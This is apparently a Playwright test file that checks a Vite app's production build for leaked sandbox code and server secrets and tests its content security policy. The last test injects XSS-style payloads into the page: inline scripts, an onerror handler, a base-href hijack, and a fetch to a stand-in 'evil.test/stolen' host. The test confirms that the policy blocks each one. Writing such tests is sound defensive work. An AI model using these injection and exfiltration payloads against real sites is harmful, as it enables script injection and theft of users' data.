import { dirname, relative, resolve } from "node:path";
import { expect, test as base } from "@playwright/test";
import { hearViolations } from "./contentSecurity";
import {
  buildSite,
  filesWithSecrets,
  SERVER_SECRETS,
  textsIn,
  watch,
  type StaticSite,
  type Text,
} from "./staticSite";

/** The app as it is deployed is the app alone: nothing of the sandbox, nothing secret. */

const CLERK = "https://clerk.app.test";
const CONVEX = "https://happy-animal-1.convex.test";

const test = base.extend<object, { app: StaticSite; configured: StaticSite }>({
  app: [
    // Playwright reads the fixtures a fixture needs from this pattern; this one needs none.
    // eslint-disable-next-line no-empty-pattern
    async ({}, use) => {
      // Hidden maps tell which modules went in, and change no byte of the rest.
      const site = await buildSite(["vite", "build", "--sourcemap", "hidden", "--outDir"], "/");
      await use(site);
      await site.remove();
    },
    { scope: "worker", timeout: 120_000 },
  ],
  configured: [
    // eslint-disable-next-line no-empty-pattern -- as above
    async ({}, use) => {
      const site = await buildSite(["vite", "build", "--outDir"], "/", {
        VITE_CLERK_PUBLISHABLE_KEY: `pk_live_${btoa(`${new URL(CLERK).host}$`)}`,
        VITE_CONVEX_URL: CONVEX,
      });
      await use(site);
      await site.remove();
    },
    { scope: "worker", timeout: 120_000 },
  ],
});

/** Words that outlive minification, and the folder or file that has them. */
const FOREIGN = [
  ["sandbox", "/sandbox/people"],
  ["sandbox", "/__clerk"],
  ["sandbox", "clerk.sandbox.test"],
  ["sandbox", "Okafor"],
  ["sandbox", "Make trouble"],
  ["sandbox", "They are lost. The next scan finds"],
  ["node_modules/sorted-btree/b+tree.js", "Attempted to modify a frozen BTree"],
  ["node_modules/lmdb/open.js", "lmdb"],
  ["convex", "CLERK_SECRET_KEY"],
  ["convex", "CLERK_WEBHOOK_SIGNING_SECRET"],
  ["sandbox", "whsec_"],
  ["src/components/DebugAuth", "Development only."],
  ["src/components/DebugAuth", "no expiry"],
] as const;

/** Modules that have no place in a browser on the real services. */
const FOREIGN_MODULES = [
  /^(sandbox|testing|stories|tests|\.storybook)\//,
  /^node_modules\/(sorted-btree|lmdb|jose|svix|@clerk\/(backend|clerk-js))\//,
];

for (const [source, word] of FOREIGN) {
  test(`the bundle does not contain "${word}", which ${source} does`, async ({ app }) => {
    // Else the word has changed in there, and that it is not in the bundle would say nothing.
    expect(filesWith(word, await textsIn(source))).not.toEqual([]);
    expect(filesWith(word, await shipped(app))).toEqual([]);
  });
}

test("the bundle is made of the app's modules, and of none of the sandbox's", async ({ app }) => {
  const modules = await bundledModules(app);
  expect(modules.filter((path) => path === "src/app/main.tsx")).toHaveLength(1);
  expect(modules.filter((path) => path.startsWith("src/dashboard/"))).not.toEqual([]);
  expect(modules.filter(isForeign)).toEqual([]);
  expect(filesWith("Saved here and in Clerk.", await shipped(app))).toHaveLength(1);
});

test("the build has its two variables in it, none of the server's secrets, and nobody's address", async ({
  configured,
}) => {
  const texts = await textsIn(configured.dir);
  expect(filesWith(CONVEX, texts)).not.toEqual([]);
  expect(filesWithSecrets(texts)).toEqual([]);
  const addresses = texts.filter(([, content]) =>
    /[\w.+-]+@example\.(?:com|org|net)/.test(content),
  );
  expect(addresses.map(([path]) => path)).toEqual([]);
});

for (const [name, secret] of Object.entries(SERVER_SECRETS).slice(0, 2)) {
  test(`a build with ${name} in it would be noticed`, () => {
    expect(filesWithSecrets([["index.js", `const a="${secret}";`]])).toEqual(["index.js"]);
    const another = secret.replace("known", "other").replace("a25vd24", "b3RoZXI");
    expect(filesWithSecrets([["index.js", `const a="${another}";`]])).toEqual(["index.js"]);
  });
}

test("without variables the page names both, and asks no other host", async ({ app, page }) => {
  const seen = watch(page, app);
  await page.goto(app.url);

  await expect(page.getByText("2 variables are missing")).toBeVisible();
  await expect(page.getByRole("main")).toContainText("VITE_CLERK_PUBLISHABLE_KEY");
  await expect(page.getByRole("main")).toContainText("VITE_CONVEX_URL");
  await page.waitForLoadState("networkidle");
  expect(seen).toEqual({ outside: [], errors: [] });
});

test("the policy lets the app have Clerk's script and a socket to Convex", async ({
  configured,
  page,
}) => {
  const violations = await hearViolations(page);
  const sockets = new Array<string>();
  await page.routeWebSocket(/./, (socket) => void sockets.push(socket.url()));
  const script = page.waitForRequest((request) => request.url().startsWith(CLERK));
  await page.route(`${CLERK}/**`, (route) =>
    route.fulfill({ contentType: "text/javascript", body: "window.clerkRan = true;" }),
  );
  await page.goto(configured.url);

  expect((await script).url()).toContain("clerk");
  await page.waitForFunction(() => "clerkRan" in window);
  await page.evaluate((url) => void new WebSocket(url), `${CONVEX.replace("http", "ws")}/api/sync`);
  await expect.poll(() => sockets).not.toEqual([]);
  expect(await violations()).toEqual([]);
});

test("the policy lets nothing run or leave that somebody has smuggled in", async ({
  configured,
  page,
}) => {
  const violations = await hearViolations(page);
  const reached = new Array<string>();
  await page.route(/evil\.test/, (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: "window.pwned = true;" });
  });
  await page.goto(configured.url);
  await page.evaluate(async () => {
    const add = (tag: string, attributes: object) =>
      document.body.append(Object.assign(document.createElement(tag), attributes));
    add("script", { textContent: "window.pwned = true;" });
    add("script", { src: "https://evil.test/script.js" });
    add("img", { src: "https://evil.test/picture.png" });
    add("iframe", { src: "https://evil.test/frame" });
    add("div", { innerHTML: '<img src="data:," onerror="window.pwned = true">' });
    await fetch("https://evil.test/stolen").catch(() => null);
    document.body.insertAdjacentHTML("beforeend", '<base href="https://evil.test/">');
  });

  await expect
    .poll(async () => new Set(await violations()))
    .toEqual(
      new Set([
        "script-src-elem inline",
        "script-src-elem https://evil.test/script.js",
        "script-src-attr inline",
        "img-src https://evil.test/picture.png",
        "frame-src https://evil.test",
        "connect-src https://evil.test/stolen",
        "base-uri https://evil.test/",
      ]),
    );
  expect(reached).toEqual([]);
  expect(await page.evaluate(() => "pwned" in window)).toBe(false);
});

function isForeign(module: string): boolean {
  return FOREIGN_MODULES.some((pattern) => pattern.test(module));
}

function filesWith(word: string, texts: readonly Text[]): string[] {
  return texts.filter(([, content]) => content.includes(word)).map(([path]) => path);
}

/** All that a host would serve: the build without its hidden maps. */
async function shipped(app: StaticSite): Promise<Text[]> {
  const texts = await textsIn(app.dir);
  return texts.filter(([path]) => !path.endsWith(".map"));
}

/** The modules that went into the build, by their paths from the root of the repository. */
async function bundledModules(app: StaticSite): Promise<string[]> {
  const maps = (await textsIn(app.dir)).filter(([path]) => path.endsWith(".js.map"));
  return maps.flatMap(([map, content]) =>
    (JSON.parse(content) as { sources: string[] }).sources.map((source) =>
      relative(process.cwd(), resolve(dirname(map), source)),
    ),
  );
}
